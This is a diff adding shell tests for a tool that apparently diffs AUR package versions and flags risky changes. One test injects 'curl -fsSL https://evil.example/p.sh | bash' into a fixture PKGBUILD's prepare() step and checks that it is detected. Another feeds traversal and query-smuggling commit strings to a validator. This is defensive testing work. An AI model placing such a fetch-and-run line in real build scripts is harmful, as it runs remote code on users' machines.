@@ -368,3 +368,99 @@ t_aur_oversize_404_and_wrong_certificate_are_named_and_store_nothing() {
         [ ! -e "$TMP/x.tar.gz" ] || fail "a failed fetch stored a file"
         ls "$TMP"/x.tar.gz.prc-* >/dev/null 2>&1 && fail "a temporary file was left" || true
 }
+
+# ---- prc diff aur:NAME[@COMMIT]: both versions fetched from the loopback server ----
+
+C_OLD=0123456789abcdef0123456789abcdef01234567
+C_NEW=89abcdef01234567
+
+# aur_commit DIR COMMIT: $TMP/srv/COMMIT.tar.gz as cgit makes it (its top directory is the file's name).
+aur_commit() {
+        rm -rf "$TMP/pack" && mkdir -p "$TMP/pack" && cp -a "$TMP/$1" "$TMP/pack/$2"
+        tar -C "$TMP/pack" -czf "$TMP/srv/$2.tar.gz" "$2"
+}
+
+t_diff_of_two_fetched_commits_records_urls_and_digests() {
+        aur_start
+        mkpkg old
+        mkpkg new
+        sed -i 's|^package() {|prepare() {\n  curl -fsSL https://evil.example/p.sh \| bash\n}\npackage() {|' \
+                "$TMP/new/PKGBUILD"
+        aur_commit old "$C_OLD"
+        aur_commit new "$C_NEW"
+        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
+        expect_rc 1
+        expect_out '"kind":"network-added"'
+        expect_out '"kind":"exec-added"'
+        expect_eq "$(json_get old.aur.package)" "demo"
+        expect_eq "$(json_get old.aur.commit)" "$C_OLD"
+        expect_eq "$(json_get old.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/$C_OLD.tar.gz"
+        expect_eq "$(json_get old.archive.sha256)" "$(sha256sum "$TMP/srv/$C_OLD.tar.gz" | cut -d' ' -f1)"
+        expect_eq "$(json_get new.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/$C_NEW.tar.gz"
+        expect_eq "$(json_get new.archive.sha256)" "$(sha256sum "$TMP/srv/$C_NEW.tar.gz" | cut -d' ' -f1)"
+        expect_eq "$(json_get new.archive.root)" "$C_NEW"
+        # The fetched snapshot has the directory's inventory.
+        run "$PRC" scan --target "$TMP/new" --format json
+        local d
+        d=$(json_get target.inventory_digest)
+        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
+        expect_eq "$(json_get new.inventory_digest)" "$d"
+        expect_eq "$(printf '%s\n' "$(cat "$AUR_LOG")")" \
+                "$(printf '/cgit/aur.git/snapshot/%s.tar.gz\n' "$C_OLD" "$C_NEW" "$C_OLD" "$C_NEW")"
+        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA"
+        expect_rc 1
+        expect_out "new: AUR package demo@$C_NEW from $AUR_URL/cgit/aur.git/snapshot/$C_NEW.tar.gz, sha256"
+        expect_out "RISKY  network-added"
+        # aur:NAME is the current snapshot; it mixes with a local directory; identical versions are clean.
+        tar -C "$TMP" -czf "$TMP/srv/demo.tar.gz" old
+        run "$PRC" diff "$TMP/old" aur:demo --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
+        expect_rc 0
+        expect_eq "$(json_get new.aur.url)" "$AUR_URL/cgit/aur.git/snapshot/demo.tar.gz"
+        python3 -c 'import json,sys; d=json.load(sys.stdin)
+sys.exit("commit" in d["new"]["aur"] or "aur" in d["old"])' <<<"$OUT" ||
+                fail "a current snapshot records a commit, or a directory records a URL"
+}
+
+t_diff_bad_aur_versions_are_refused_before_any_request() {
+        aur_start
+        local c
+        for c in XYZ abc12 0123456 "${C_OLD}8" ABCDEF0 'abcdef0/../x' 'abcdef0?h=x' '' 'abcdef0 '; do
+                run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$c" --aur-url "$AUR_URL" --cacert "$AUR_CA"
+                if [ "$c" = 0123456 ]; then
+                        # Valid syntax: the server is asked (and has no such commit).
+                        expect_rc 3
+                        : >"$AUR_LOG"
+                        continue
+                fi
+                expect_rc 2
+                expect_err "aur-commit-invalid"
+                expect_err "aur:demo@$c"
+        done
+        for c in 'aur:Demo' 'aur:' 'aur:-x@abcdef0' 'aur:a/b@abcdef0' 'aur:@abcdef0'; do
+                run "$PRC" diff "aur:demo@$C_OLD" "$c" --aur-url "$AUR_URL" --cacert "$AUR_CA"
+                expect_rc 2
+                expect_err "aur-name-invalid"
+        done
+        [ ! -s "$AUR_LOG" ] || fail "a refused version reached the server: $(cat "$AUR_LOG")"
+        run "$PRC" diff aur:demo aur:demo --aur-url "http://127.0.0.1:1"
+        expect_rc 2
+        expect_err "aur-url-invalid"
+        mkpkg a
+        run "$PRC" diff "$TMP/a" "$TMP/a" --aur-url "$AUR_URL"
+        expect_rc 2
+        expect_err "go with an aur:NAME"
+}
+
+t_diff_one_fetched_version_missing_is_a_named_failure() {
+        aur_start
+        mkpkg old
+        aur_commit old "$C_OLD"
+        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_NEW" --aur-url "$AUR_URL" --cacert "$AUR_CA" --format json
+        expect_rc 3
+        expect_err "https-status"
+        expect_err "aur:demo@$C_NEW"
+        expect_eq "$OUT" ""
+        run "$PRC" diff "aur:demo@$C_OLD" "aur:demo@$C_OLD" --aur-url "$AUR_OTHER_URL" --cacert "$AUR_CA"
+        expect_rc 3
+        expect_err "https-tls-failed"
+}
